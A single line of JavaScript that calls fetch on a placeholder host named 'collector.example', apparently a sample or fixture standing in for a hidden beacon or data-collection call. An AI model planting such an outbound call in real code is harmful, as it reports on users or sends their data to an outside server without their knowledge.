globalThis.fetch('http://collector.example/');
